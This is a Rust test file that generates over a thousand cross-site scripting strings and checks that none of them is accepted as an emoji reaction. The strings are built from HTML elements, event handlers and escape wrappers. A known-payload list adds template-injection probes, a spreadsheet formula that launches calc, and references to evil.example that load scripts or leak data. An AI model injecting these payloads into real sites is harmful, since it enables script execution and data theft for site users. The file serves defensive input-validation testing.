//! Texts that have bitten others: a thousand ways to write markup that runs something, templates of
//! eight engines, and links that are no links.

/// What runs sets this on the page that runs it.
pub const BITE: &str = "bitten=1";

/// Elements with something that runs by itself.
const ELEMENTS: [&str; 16] = [
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "style",
    "a autofocus href=x",
    "x tabindex=1 autofocus",
];

const HANDLERS: [&str; 8] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onanimationstart",
    "ONERROR",
    "onpointerenter",
];

/// What they are wrapped in, to get out of where they stand.
const WRAPS: [(&str, &str); 8] = [
    ("<", ">"),
    ("\"><", ">"),
    ("'><", "//"),
    ("--><", "><!--"),
    ("</title></textarea></style></script><", ">"),
    ("<![CDATA[<", ">]]>"),
    ("&lt;", "&gt;<"),
    ("[x](x \"><", ">\")"),
];

/// What was found in others, and what templates evaluate.
const KNOWN: [&str; 40] = [
    "<script>bitten=1</script>",
    "<ScRiPt>bitten=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>bitten=1</scr</script>ipt>",
    "<svg><script>bitten=1</script></svg>",
    "<svg><animate onbegin=bitten=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=bitten=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=bitten=1>\">",
    "<template><script>bitten=1</script></template>",
    "<iframe srcdoc=\"<script>parent.bitten=1</script>\">",
    "<form action=javascript:bitten=1><button>x",
    "<button formaction=javascript:bitten=1>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:bitten=1\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<a href=javascript:bitten=1>x</a>",
    "<a href=\"jav&#x09;ascript:bitten=1\">x</a>",
    "[x](javascript:bitten=1)",
    "[x](data:text/html,<script>bitten=1</script>)",
    "![x](https://evil.example/?leak=1)",
    "<https://evil.example/\"onmouseover=\"bitten=1>",
    "javascript:bitten=1",
    "JaVaScRiPt:bitten=1",
    "java\u{200b}script:bitten=1",
    "vbscript:bitten=1",
    "data:text/html;base64,PHNjcmlwdD5iaXR0ZW49MTwvc2NyaXB0Pg==",
    "\u{ff1c}script\u{ff1e}bitten=1\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-bitten=1+ADw-/script+AD4-",
    "{{constructor.constructor('bitten=1')()}}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% print(7*7) %}",
    "[[${7*7}]]",
    "@(7*7)",
    "*{7*7}",
    "=cmd|'/c calc'!A1",
    "<!channel> <@U1> <https://evil.example|ours>",
];

/// All of them, each on a line of its own.
pub fn all() -> Vec<String> {
    let mut texts: Vec<String> = KNOWN.iter().map(|&text| text.to_owned()).collect();
    for (open, close) in WRAPS {
        for element in ELEMENTS {
            for handler in HANDLERS {
                texts.push(format!("{open}{element} {handler}={BITE}{close}"));
            }
        }
    }
    texts
}

/// What stands at a message as a reaction is an emoji, and no text that looks for a place in markup.
#[test]
fn sec_c1_03_no_hostile_text_is_an_emoji() {
    for text in all() {
        assert!(shared::text::Emoji::parse(&text).is_err(), "{text}");
    }
}

#[test]
fn sec_c1_02_the_corpus_has_a_thousand_texts() {
    let mut texts = all();
    texts.sort();
    texts.dedup();
    assert!(texts.len() >= 1_000, "{}", texts.len());
    assert!(texts.iter().all(|text| !text.contains('\n')));
}
